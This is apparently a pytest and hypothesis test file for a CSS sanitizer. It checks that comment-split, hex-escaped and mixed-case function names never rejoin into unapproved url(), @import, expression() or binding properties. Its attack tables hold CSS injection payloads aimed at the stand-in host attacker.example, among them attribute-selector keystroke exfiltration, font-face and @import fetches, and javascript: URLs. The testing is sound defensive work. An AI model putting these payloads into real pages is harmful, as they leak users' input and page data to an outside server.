"""The CSS cleaner never emits a token the input did not have (issue 10, item 1).

An attacker splits a function name with a comment (``u/**/rl(``), escapes it (``\\75 rl(``),
mixes its case, or nests it, hoping that the cleaner drops the comment and glues the halves
into a ``url(`` it never checked. Every output here is re-tokenized by tinycss2 and audited:
each function and URL token in it must be one the cleaner itself approved (recorded in
``CssContext.approved``), each function name must be one the input had, and no blocked
property or at-rule may appear.
"""

import pytest
import tinycss2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sanitize_corpus_support import css_dangers

from cobrowse.sanitize import css

BASE = "https://shop.example/cart/"
ALLOWED = frozenset({"https://shop.example", "https://cdn.example"})
EVIL = "//attacker.example/x"


def ctx() -> css.CssContext:
    return css.CssContext(BASE, ALLOWED)


def _tokens(text: str) -> list:
    """Every token of ``text``, functions' arguments and blocks' contents included."""
    out, stack = [], list(tinycss2.parse_component_value_list(text, skip_comments=False))
    while stack:
        token = stack.pop()
        out.append(token)
        if token.type == "function":
            stack.extend(token.arguments)
        elif token.type in ("() block", "[] block", "{} block"):
            stack.extend(token.content)
    return out


def _declaration_names(text: str, sheet: bool) -> list[str]:
    """Names of every declaration in ``text`` (nested rules and at-rule blocks too)."""
    names, pending = [], [(text, sheet)]
    while pending:
        chunk, is_sheet = pending.pop()
        if is_sheet:
            items = tinycss2.parse_stylesheet(chunk, skip_comments=True)
        else:
            items = tinycss2.parse_blocks_contents(chunk, skip_comments=True)
        for item in items:
            if item.type == "declaration":
                names.append(item.lower_name)
            elif item.type in ("qualified-rule", "at-rule") and item.content is not None:
                inner = tinycss2.serialize(item.content)
                pending.append((inner, False))
                pending.append((inner, True))
    return names


def _string_argument(function) -> str | None:
    args = [t for t in function.arguments if t.type not in ("whitespace", "comment")]
    return args[0].value if len(args) == 1 and args[0].type == "string" else None


def audit(source: str, output: str, context: css.CssContext, sheet: bool) -> list[str]:
    """What in ``output`` the cleaner did not approve, or the input did not have."""
    problems = []
    source_tokens = _tokens(source)
    functions = {t.lower_name for t in source_tokens if t.type == "function"}
    at_keywords = {t.lower_value for t in source_tokens if t.type == "at-keyword"}
    for token in _tokens(output):
        if token.type == "url" and "url:" + token.value not in context.approved:
            problems.append(f"unapproved url token {token.value!r}")
        elif token.type == "function":
            name = token.lower_name
            if name == "url":
                target = _string_argument(token)
                if target is None or "url:" + target not in context.approved:
                    problems.append(f"unapproved url({target!r})")
            elif name not in context.approved:
                problems.append(f"function {name}( the cleaner never approved")
            if name not in functions and name != "url":  # url(): a rewritten url token
                problems.append(f"function {name}( the input did not have")
            if name in css.BLOCKED_FUNCTIONS:
                problems.append(f"blocked function {name}(")
        elif token.type == "at-keyword" and token.lower_value not in at_keywords:
            problems.append(f"at-rule @{token.lower_value} the input did not have")
    for entry in context.approved:
        if entry.startswith("url:"):
            url = entry[4:]
            if not (url.startswith("#") or url.startswith("data:image/")
                    or "/".join(url.split("/")[:3]) in ALLOWED):
                problems.append(f"approved a URL off the allowed origins: {url!r}")
    for name in _declaration_names(output, sheet):
        if name in css.BLOCKED_PROPERTIES:
            problems.append(f"blocked property {name}")
    return problems


def clean_both(text: str) -> list[tuple[str, str, list[str]]]:
    """(way, output, problems) for ``text`` as a style sheet and as a style attribute."""
    out = []
    for way, clean, sheet in (("sheet", css.clean_stylesheet, True),
                              ("declarations", css.clean_declarations, False)):
        context = ctx()
        output = clean(text, context)
        out.append((way, output, audit(text, output, context, sheet)))
    return out


# --- property: random token soup, built from the pieces attackers use -----------------

PIECES = st.sampled_from([
    "u", "r", "l", "ur", "rl", "url", "URL", "uRl", "src", "(", ")", "/**/", "/*x*/", "/*",
    "*/", " ", "\n", "\\", "\\75 ", "\\75", "\\55 ", "\\72 ", "\\6c ", "\\l", "image", "-set",
    "image-set", "-webkit-", "expr", "ession", "expression", "element", "-moz-", "binding",
    "behavior", "behav", "ior", "cross-fade", "@", "import", "@import", "@im", "port",
    "font-face", "@font-face", "@media all", "{", "}", "[", "]", ";", ":", ",", '"', "'", EVIL,
    "https://cdn.example/a.png", "/a.png", "#f", "a", "input", "value^=a", "background",
    "!important", "javascript:", "1x", "var(--x)", "attr(x)", "e", "-", "+", "0", "1px", "%",
    ".", "*", "|", "~", "=", "^", "data:image/png;base64,AAAA", "data:text/html,x",
])
NAMES = ["url", "src", "image-set", "-webkit-image-set", "image", "cross-fade", "expression",
         "element", "-moz-element", "import"]
ARGUMENTS = [EVIL, f'"{EVIL}"', f"'{EVIL}' 1x", "alert(1)", "/a.png", "'javascript:x'", "#x"]
WRAPPERS = ["{v}", "image-set({v} 1x)", "calc(1px + {v})", "{v},red", "var(--x,{v})", "{v}{v}"]
TEMPLATES = ["background:{v}", "a{{background:{v}}}", "@font-face{{src:{v}}}",
             "input[value^=a]{{background:{v}}}", "@media all{{a{{b{{c:{v}}}}}}}", "@{v};",
             "a[x={v}]{{color:red}}", "--x:{v};background:var(--x)"]


@st.composite
def disguised(draw) -> str:
    """A fetching or scripting function, its name disguised the ways a CSS reader undoes:
    comments and whitespace anywhere in it, hex and plain escapes, mixed case."""
    pieces = []
    for char in draw(st.sampled_from(NAMES)):
        how = draw(st.integers(0, 7))
        if how == 0:
            char = char.upper()
        elif how == 1:
            char = f"\\{ord(char):x}" + draw(st.sampled_from(["", " ", "\n"]))
        elif how == 2 and char.isalpha() and char not in "abcdefABCDEF":
            char = "\\" + char
        pieces.append(char)
        if draw(st.integers(0, 3)) == 0:
            pieces.append(draw(st.sampled_from(["/**/", "/*x*/", "/*)*/", " ", "\\\n"])))
    opening = draw(st.sampled_from(["(", "(", "/**/(", " (", "\\("]))
    call = "".join(pieces) + opening + draw(st.sampled_from(ARGUMENTS)) + ")"
    value = draw(st.sampled_from(WRAPPERS)).format(v=call)
    return draw(st.sampled_from(TEMPLATES)).format(v=value)


SOUPS = (
    disguised()
    | st.lists(PIECES, max_size=40).map("".join)
    | st.text(alphabet=st.sampled_from("url(/*)\\75 @import{};:\"'-xe"), max_size=60)
)


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SOUPS)
def test_no_output_token_the_cleaner_did_not_approve(text):
    for way, output, problems in clean_both(text):
        assert problems == [], (way, text, output, problems)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(SOUPS)
def test_cleaning_twice_changes_nothing(text):
    for _way, clean in (("sheet", css.clean_stylesheet), ("decl", css.clean_declarations)):
        once = clean(text, ctx())
        assert clean(once, ctx()) == once, (text, once)


# --- attack tables ----------------------------------------------------------------------

FUNCTIONS = {  # function -> an argument that would fetch or run something
    "url": EVIL,
    "src": f'"{EVIL}"',
    "image-set": f'"{EVIL}" 1x',
    "-webkit-image-set": f'"{EVIL}" 1x',
    "image": f'"{EVIL}"',
    "cross-fade": f'"{EVIL}", red',
    "expression": "alert(1)",
    "element": "#secret",
    "-moz-element": "#secret",
}
CONTEXTS = {  # where the value goes: (text, parsed as a sheet?)
    "attribute": ("background:{v}", False),
    "rule": ("a{{background:{v}}}", True),
    "font-face src": ("@font-face{{font-family:x;src:{v}}}", True),
    "keystroke exfiltration": ("input[value^=a]{{background:{v}}}", True),
    "media": ("@media all{{a{{background:{v}}}}}", True),
    "nested rule": ("a{{b{{background:{v}}}}}", True),
    "supports": ("@supports (display:grid){{a{{cursor:{v},auto}}}}", True),
    "list value": ("background:red,{v},blue", False),
}


def _comment_splits(name: str) -> list[str]:
    """``name(`` with a comment in every position: inside the name, before the parenthesis."""
    out = [f"{name[:k]}/**/{name[k:]}" for k in range(1, len(name))]
    out += [f"{name[:k]}/*x*/{name[k:]}" for k in range(1, len(name))]
    return [f"{split}(" for split in out] + [f"{name}/**/(", f"{name} /**/(", f"{name}\n("]


SPLIT_CASES = [
    pytest.param(ctx_name, call, id=f"{ctx_name}:{call}")
    for name, arg in FUNCTIONS.items()
    for call in (f"{split}{arg})" for split in _comment_splits(name))
    for ctx_name in CONTEXTS
]


@pytest.mark.parametrize(("where", "value"), SPLIT_CASES)
def test_comments_inside_function_names_never_glue(where, value):
    template, sheet = CONTEXTS[where]
    text = template.format(v=value)
    context = ctx()
    clean = (css.clean_stylesheet if sheet else css.clean_declarations)(text, context)
    assert audit(text, clean, context, sheet) == [], (text, clean)
    assert css_dangers(clean, set(ALLOWED)) == [], (text, clean)
    assert "url(" not in clean.replace("url(\"https://", ""), (text, clean)


ESCAPED = [  # every spelling of a URL function a CSS reader decodes to url( / expression(
    f"\\75 rl({EVIL})", f"u\\rl({EVIL})", f"\\55\\52\\4c({EVIL})", f"U\\52L({EVIL})",
    f"ur\\l({EVIL})", f"UrL({EVIL})", f"uRl('{EVIL}')", f"\\000075rl({EVIL})", f"\\75\nrl({EVIL})",
    f"\\75/**/rl({EVIL})", f"u\\/**/rl({EVIL})", "\\65xpression(alert(1))", "EXPRESSION(x)",
    "expr\\65ssion(x)", "exp/**/ression(x)", f"image-set(u/**/rl({EVIL}) 1x)",
    f"image-set(image-set('{EVIL}' 1x) 1x)", f"-webkit-image-set(url({EVIL}) 1x)",
    f"cross-fade(url({EVIL}),red)", f"calc(1px + u/**/rl({EVIL}))",
    "image-set(var(--x) 1x)", "image-set(attr(data-u) 1x)", "url(var(--x))",
    f"linear-gradient(red,blue),u/**/rl({EVIL})", f"env(x,url({EVIL}))",
    f"rgb(from url({EVIL}) r g b)", "javascript:alert(1)", "'javascript:alert(1)'",
    f"\\\nurl({EVIL})", f"url/**/({EVIL})", f"url\\({EVIL})", f"u\\72l({EVIL})",
    f"src(u/**/rl({EVIL}))", f"image('{EVIL}')", "-moz-element(#x)",
]


@pytest.mark.parametrize("value", ESCAPED)
@pytest.mark.parametrize("where", sorted(CONTEXTS))
def test_escaped_mixed_case_and_nested_functions(where, value):
    template, sheet = CONTEXTS[where]
    text = template.format(v=value)
    context = ctx()
    clean = (css.clean_stylesheet if sheet else css.clean_declarations)(text, context)
    assert audit(text, clean, context, sheet) == [], (text, clean)
    assert css_dangers(clean, set(ALLOWED)) == [], (text, clean)


AT_RULES = [
    f"@im/**/port url({EVIL});", f"@/**/import url({EVIL});", f"@\\69mport url({EVIL});",
    f"@IMPORT '{EVIL}';", f"@import u/**/rl({EVIL});", f"@import url({EVIL}) all;",
    f"a{{}}@import url({EVIL});", f"@media all{{@import url({EVIL});}}",
    f"@font-face{{src:u/**/rl({EVIL}) format('woff')}}",
    f"@font-face{{src:local(x),ur/**/l({EVIL})}}", f"@font-face{{src:src(u/**/rl({EVIL}))}}",
    "@namespace svg u/**/rl(http://www.w3.org/2000/svg);",
    "x{-moz-bin/**/ding:url(a.xml#x)}", "x{be/**/havior:url(a.htc)}", "x{behavior:url(a.htc)}",
    "x{-moz-binding:url(a.xml#x)}", "x{\\62 ehavior:url(a.htc)}", "x{-ms-filter:'progid:x'}",
    f"input[value^=a]{{background:u/**/rl({EVIL}a)}}input[value^=b]{{background:ur/**/l({EVIL}b)}}",
    f"input[value$='1']{{--x:u/**/rl({EVIL});background:var(--x)}}",
    f"a[href^=u/**/rl(]{{background:url({EVIL})}}", f"a:u/**/rl({EVIL}){{color:red}}",
    f"@media (min-width:u/**/rl({EVIL})){{a{{color:red}}}}",
    f"@supports (background:u/**/rl({EVIL})){{a{{color:red}}}}",
    f"@page{{background:u/**/rl({EVIL})}}", f"@keyframes k{{from{{background:u/**/rl({EVIL})}}}}",
    f"@property --x{{syntax:'*';initial-value:u/**/rl({EVIL})}}",
]


@pytest.mark.parametrize("sheet", AT_RULES)
def test_at_rules_and_blocked_properties(sheet):
    context = ctx()
    clean = css.clean_stylesheet(sheet, context)
    assert audit(sheet, clean, context, True) == [], (sheet, clean)
    assert css_dangers(clean, set(ALLOWED)) == [], (sheet, clean)
    assert "@import" not in clean.lower()


@pytest.mark.parametrize(("text", "expected"), [
    ("background:u/**/rl(//attacker.example/x)", "background:u rl(//attacker.example/x)"),
    ("x:expr/*XSS*/ession(alert(1))", "x:expr ession(alert(1))"),
    ("background:url/**/(x)", "background:url (x)"),
    ("color:red/**/blue", "color:red/**/blue"),  # no function: returned as it came
    ("background:url(/a.png)/**/no-repeat", 'background:url("https://shop.example/a.png") no-repeat'),
    ("background:ur/**/l(/a.png)", "background:ur l(/a.png)"),
])
def test_comments_become_whitespace(text, expected):
    assert css.clean_declarations(text, ctx()) == expected


def test_issue_examples_in_a_sheet():
    sheet = ("@font-face{src:u/**/rl(//attacker.example/f)}"
             "input[value^=a]{background:u/**/rl(//attacker/a)}"
             "b{background:image/**/-set('//attacker.example/i' 1x)}")
    context = ctx()
    clean = css.clean_stylesheet(sheet, context)
    assert "url(" not in clean and "image-set(" not in clean, clean
    assert audit(sheet, clean, context, True) == []


def test_allowed_urls_still_come_through():
    context = ctx()
    text = "background:url(/a.png),image-set('https://cdn.example/b.png' 1x);cursor:url(#c),auto"
    clean = css.clean_declarations(text, context)
    assert clean == ('background:url("https://shop.example/a.png"),image-set(url('
                     '"https://cdn.example/b.png") 1x);cursor:url("#c"),auto'), clean
    assert audit(text, clean, context, False) == []
